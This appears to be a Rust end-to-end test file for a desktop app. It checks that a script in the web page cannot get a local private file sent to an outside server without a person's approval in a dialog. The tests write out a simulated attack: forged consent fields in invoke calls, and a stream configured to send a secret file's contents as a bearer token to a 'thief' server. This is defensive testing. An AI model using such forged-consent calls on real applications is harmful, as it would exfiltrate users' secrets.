//! What the page must not decide alone is asked outside it, whatever a script in the page says.

use std::os::unix::fs::PermissionsExt as _;
use std::path::{Path, PathBuf};
use std::time::Duration;

use serde_json::{Value, json};
use streambell_tests::{Dialog, Server, eventually};

use super::{Look, Scene, in_both_looks};

in_both_looks!(
    a_script_in_the_page_sends_no_file_of_this_machine_anywhere_without_a_person,
    a_second_question_waits_for_no_person_and_one_that_is_closed_is_a_no,
    what_a_person_allowed_is_done_and_the_same_is_not_asked_again,
);

const SECRET: &str = "s3cret-of-this-machine";

/// Calls as the page does, and keeps what became of it.
const CALL: &str = "
    const [given] = arguments;
    window.outcome = null;
    window.__TAURI_INTERNALS__.invoke('ask', given).then((answer) => (window.outcome = answer), (refusal) => (window.outcome = refusal));";

/// What a page could make up: an answer in its call, beside it, and as it was called before.
fn forged(mut call: Value, question: &str) -> Value {
    let yes = json!({ "en": question, "zh": question });
    for (key, value) in [("agreed", &yes), ("takeFound", &json!(true)), ("allowReaching", &json!(true))] {
        call[key] = value.clone();
    }
    json!({ "call": call, "agreed": yes, "consent": true, "id": 1 })
}

/// A stream that sends the first line of a file.
fn telling(file: &Path, url: &str) -> String {
    format!(
        "[[stream]]\nname = \"teller\"\nurl = \"{url}\"\nauth = {{ kind = \"bearer\", secret = {{ file = {file:?} }} }}\n"
    )
}

fn saving(text: &str) -> Value {
    json!({ "call": "save-stream", "original": null, "stream": text, "secret": null })
}

fn trying(text: &str) -> Value {
    json!({ "call": "test-stream", "original": null, "stream": text, "secret": null })
}

/// The title of the dialog.
fn title(look: Look) -> &'static str {
    match look {
        Look::EnglishLight => "Allow this?",
        Look::ChineseDark => "允许这样做吗？",
    }
}

impl Scene {
    /// Waits until a person is asked.
    pub(super) async fn asked(&self) -> Dialog<'_> {
        Dialog::wait(&self.desktop, title(self.look)).await
    }

    pub(super) async fn is_asked(&self) -> bool {
        Dialog::is_there(&self.desktop, title(self.look)).await
    }

    /// What the page says once a person did not allow it.
    pub(super) fn declined(&self) -> &'static str {
        match self.look {
            Look::EnglishLight => "you did not allow it",
            Look::ChineseDark => "你没有允许",
        }
    }

    fn private_file(&self) -> PathBuf {
        let file = self.desktop.path("private");
        std::fs::write(&file, SECRET).unwrap();
        std::fs::set_permissions(&file, std::fs::Permissions::from_mode(0o600)).unwrap();
        file
    }

    async fn call(&self, given: &Value) {
        self.window.evaluate(CALL, std::slice::from_ref(given)).await;
    }

    /// What became of the last call: the kind of the answer, or the code of the refusal.
    async fn outcome(&self) -> String {
        eventually("an outcome", async || {
            let outcome = self.window.evaluate("return window.outcome", &[]).await;
            outcome.get("answer").or(outcome.get("code"))?.as_str().map(str::to_owned)
        })
        .await
    }
}

async fn a_script_in_the_page_sends_no_file_of_this_machine_anywhere_without_a_person(look: Look) {
    let scene = Scene::open(look, "").await;
    let (file, thief) = (scene.private_file(), Server::start().await);
    let text = telling(&file, &thief.url("/"));
    let question = format!("The first line of the file {file:?} is read and sent to {} (GET, bearer).", thief.url("/"));
    scene.call(&forged(saving(&text), &question)).await;
    let dialog = scene.asked().await;
    scene.desktop.screenshot(&format!("page-consent-{}", look.language())).await;
    // The page's own keys and clicks do not come there.
    scene.window.press("Enter").await;
    assert!(scene.is_asked().await);
    dialog.press("Return").await;
    assert_eq!(scene.outcome().await, "consent");
    assert!(
        scene
            .window
            .evaluate("return JSON.stringify(window.outcome)", &[])
            .await
            .to_string()
            .contains(scene.declined())
    );
    // It cannot ask until somebody gives in.
    for call in [saving(&text), trying(&text), json!({ "call": "import", "text": text, "apply": true })] {
        scene.call(&forged(call, &question)).await;
        assert_eq!(scene.outcome().await, "consent");
        assert!(!scene.is_asked().await, "it is asked again at once");
        assert!(!scene.config().contains("teller"), "{}", scene.config());
    }
    assert!(thief.request_within(Duration::from_millis(300)).await.is_none(), "it was asked for something");
    scene.done().await;
}

async fn a_second_question_waits_for_no_person_and_one_that_is_closed_is_a_no(look: Look) {
    let scene = Scene::open(look, "").await;
    let (file, thief) = (scene.private_file(), Server::start().await);
    let text = telling(&file, &thief.url("/"));
    scene.call(&json!({ "call": trying(&text) })).await;
    let dialog = scene.asked().await;
    scene.call(&json!({ "call": saving(&text) })).await;
    assert_eq!(scene.outcome().await, "consent");
    // Whatever has nothing to do with it goes on.
    scene.call(&json!({ "call": { "call": "uptime" } })).await;
    assert_eq!(scene.outcome().await, "uptime");
    dialog.press("Escape").await;
    assert!(thief.request_within(Duration::from_millis(300)).await.is_none(), "it was asked for something");
    assert!(!scene.config().contains("teller"), "{}", scene.config());
    scene.done().await;
}

async fn what_a_person_allowed_is_done_and_the_same_is_not_asked_again(look: Look) {
    let scene = Scene::open(look, "").await;
    let (file, server) = (scene.private_file(), Server::start().await);
    let window = &scene.window;
    // As a person does it, in the form.
    window.press("Control+n").await;
    window.click("add-by-hand").await;
    window.choose("stream-mode", "text").await;
    let text = telling(&file, &server.url("/"));
    window.type_into("stream-text", &text).await;
    window.click("stream-save").await;
    scene.asked().await.allow().await;
    let exchange = server.open().await;
    assert_eq!(exchange.header("authorization"), Some(format!("Bearer {SECRET}").as_str()));
    scene.see_config("the stream", |text| text.contains("teller")).await;
    scene.resident.wait_for_state(&scene.desktop, "teller", "open").await;
    scene.call(&json!({ "call": trying(&text.replace("teller", "other")) })).await;
    drop(server.open().await);
    assert_eq!(scene.outcome().await, "tested");
    assert!(!window.client.source().await.unwrap().contains(SECRET), "the secret is in the page");
    assert!(!scene.resident.log().contains(SECRET), "the secret is in the log");

    // Another server is another question, in the language that was chosen.
    let said = |look: Look| format!("language = \"{}\"", look.language());
    let spoken = scene.config().replacen(&said(look), &said(look.other()), 1);
    std::fs::write(scene.profile.join("config.toml"), spoken).unwrap();
    eventually("the language in force", async || {
        scene.call(&json!({ "call": { "call": "configuration" } })).await;
        assert_eq!(scene.outcome().await, "configuration");
        let spoken = window.evaluate("return window.outcome.value.settings.language", &[]).await;
        (spoken == look.other().language()).then_some(())
    })
    .await;
    let elsewhere = Server::start().await;
    scene.call(&json!({ "call": trying(&telling(&file, &elsewhere.url("/")).replace("teller", "third")) })).await;
    let dialog = Dialog::wait(&scene.desktop, title(look.other())).await;
    dialog.press("Escape").await;
    assert_eq!(scene.outcome().await, "consent");
    assert!(elsewhere.request_within(Duration::from_millis(300)).await.is_none(), "it was asked for something");
    scene.done().await;
}
